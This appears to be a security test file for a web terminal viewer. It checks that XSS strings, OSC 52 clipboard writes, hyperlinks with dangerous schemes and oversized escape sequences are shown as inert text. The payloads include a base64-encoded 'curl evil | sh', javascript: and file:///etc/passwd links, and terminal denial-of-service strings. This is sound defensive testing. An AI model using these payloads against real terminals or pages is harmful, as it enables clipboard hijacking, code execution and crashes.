/**
 * The pages against hostile content: rows X01, X04 and X07 of the security catalogue. Nothing that a program or a
 * server says is run, followed, copied or able to stop the page.
 */

import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { launchBrowser, shows, Watched } from './browser';
import { Double } from './double';
import type { DoubleSession } from './double-session';
import { xssCorpus } from './xss-corpus';

let browser: Browser;
let double: Double;
let watched: Watched;
let session: DoubleSession;
/** Dialogs and marks: what a script of the corpus leaves behind when it runs. */
let executions: string[];

beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());
beforeEach(async () => {
  double = await Double.start();
  session = double.add('one', { title: 'bash' });
  watched = await Watched.open(browser);
  executions = [];
  await watched.context.exposeFunction('executed', (what: string) => executions.push(what));
  await watched.context.addInitScript(() => {
    for (const name of ['alert', 'confirm', 'prompt', 'print']) {
      Reflect.set(window, name, () => Reflect.get(window, 'executed')(name));
    }
  });
  watched.context.on('dialog', (dialog) => {
    executions.push(dialog.type());
    void dialog.dismiss();
  });
});
afterEach(async () => {
  await watched.close();
  await double.stop();
  expect(executions).toEqual([]);
  expect(watched.complaints).toEqual([]);
});

async function open(name = 'one'): Promise<Page> {
  const page = await watched.page(double.page(name));
  await session.until(({ viewerCount }) => viewerCount > 0);
  return page;
}

/** What the page has besides its own: elements of the corpus, and handlers on any element. */
async function foreign(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const tags = 'script:not([src*="/assets/"]),iframe,object,embed,base,form,math,marquee,video';
    const found = Array.from(document.querySelectorAll(tags), (element) => element.outerHTML);
    for (const element of document.querySelectorAll('*')) {
      for (const { name } of element.attributes) {
        if (name.startsWith('on')) {
          found.push(element.outerHTML);
        }
      }
    }
    return found;
  });
}

test('x01 three hundred attacks in titles and output are text', async () => {
  const corpus = xssCorpus();
  expect(corpus.length).toBeGreaterThanOrEqual(300);
  const page = await open();
  for (const attack of corpus) {
    session.setTitle(attack);
    session.emit(`\u001b]0;${attack}\u0007\u001b]2;${attack}\u001b\\${attack}\r\n`);
  }
  session.setTitle('the end');
  session.emit('\u001b[2J\u001b[Hthe end');
  await shows(page, 'the end');
  await page.getByRole('heading', { name: 'the end' }).waitFor();
  expect(await foreign(page)).toEqual([]);
  expect(await page.evaluate(() => location.href)).toBe(double.page('one'));
});

test('x01 three hundred attacks in the list of sessions are text', async () => {
  const corpus = xssCorpus();
  corpus.forEach((attack, index) => {
    double.add(`s${String.fromCharCode(97 + (index % 26), 97 + Math.floor(index / 26))}`, {
      title: attack,
      command: attack,
      cwd: attack,
    });
  });
  const page = await watched.page(double.url);
  await page.waitForFunction(
    (count) => document.querySelectorAll('a[href*="/s/"]').length >= count,
    corpus.length,
  );
  expect(await foreign(page)).toEqual([]);
  expect(await page.evaluate(() => location.href)).toBe(double.url);
});

test('x04 the clipboard is neither written nor read by a program', async () => {
  await watched.context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const page = await open();
  await page.evaluate(() => navigator.clipboard.writeText('mine'));
  const stolen = Buffer.from('curl evil | sh').toString('base64');
  for (const target of ['c', 'p', 's', '0', '', 'cps0']) {
    session.emit(`\u001b]52;${target};${stolen}\u0007\u001b]52;${target};?\u001b\\`);
  }
  session.emit('done');
  await shows(page, 'done');
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('mine');
  expect(session.received.toString()).toBe('');
});

test('x04 links of other schemes are no links', async () => {
  const schemes = [
    'javascript:executed("link")',
    'JaVaScRiPt:executed("link")',
    ' javascript:executed("link")',
    'data:text/html,<script>alert(1)</script>',
    'file:///etc/passwd',
    'vbscript:msgbox(1)',
    'blob:null/x',
    'chrome://settings',
    'ms-msdt:/id',
    'ssh://host',
    '//evil.example/x',
    'about:blank',
  ];
  const page = await open();
  for (const [row, link] of schemes.entries()) {
    session.emit(`\u001b[${row + 1};1H\u001b]8;;${link}\u0007link-${row}\u001b]8;;\u0007`);
  }
  await shows(page, `link-${schemes.length - 1}`);
  for (const row of schemes.keys()) {
    const line = page.locator('.xterm-rows > div').nth(row);
    const box = await line.boundingBox();
    await page.mouse.move((box?.x ?? 0) + 20, (box?.y ?? 0) + 6);
    await page.mouse.click((box?.x ?? 0) + 20, (box?.y ?? 0) + 6);
  }
  await shows(page, 'link-0');
  expect(watched.context.pages()).toHaveLength(1);
  expect(watched.urls.filter((url) => !url.startsWith(double.url))).toEqual([]);
});

const MEGABYTE = 1 << 20;
const BOMBS: readonly (readonly [string, string])[] = [
  ['a character repeated without end', 'x\u001b[2147483647b\u001b[99999999999b'],
  ['a screen full of repetitions, often', 'x\u001b[1920b'.repeat(20_000)],
  ['an operating system command that never ends', `\u001b]0;${'A'.repeat(4 * MEGABYTE)}`],
  ['a device control string that never ends', `\u001bPq${'~'.repeat(4 * MEGABYTE)}`],
  ['a private message that never ends', `\u001b^${'A'.repeat(MEGABYTE)}`],
  ['a million parameters', `\u001b[${'1;'.repeat(MEGABYTE)}m`],
  ['huge counts', '@PXLMSTABCDIZrHdGJK'.replace(/./g, '\u001b[2147483647;2147483647$&')],
  ['a huge scroll region', '\u001b[1;2147483647r\u001b[2147483647S\u001b[2147483647T'],
  ['a hundred thousand marks on one letter', `a${'\u0301'.repeat(100_000)}`],
  ['joined pictures', `${'\u{1f469}\u200d'.repeat(20_000)}`],
  ['wide characters', '\u5b57'.repeat(300_000)],
  ['pictures by sixel and kitty', `\u001bPq#0~\u001b\\\u001b_Ga=T,s=99999,v=99999;AAAA\u001b\\`],
  ['screens cleared and scrolled', '\u001b[2J\u001b[3J\u001b[24S\u001b[24T'.repeat(20_000)],
];

test.each(BOMBS)('x07 %s leaves the page alive', async (_name, bomb) => {
  session.echo = true;
  const page = await open();
  session.emit(bomb);
  // Ended or not, a reset begins a screen on which everything works as before.
  session.emit('\u0018\u001b\\\u001bcsafe and sound\r\n');
  await shows(page, 'safe and sound');
  await page.keyboard.type('still typing');
  await shows(page, 'still typing');
  expect(session.received.toString()).toBe('still typing');
});
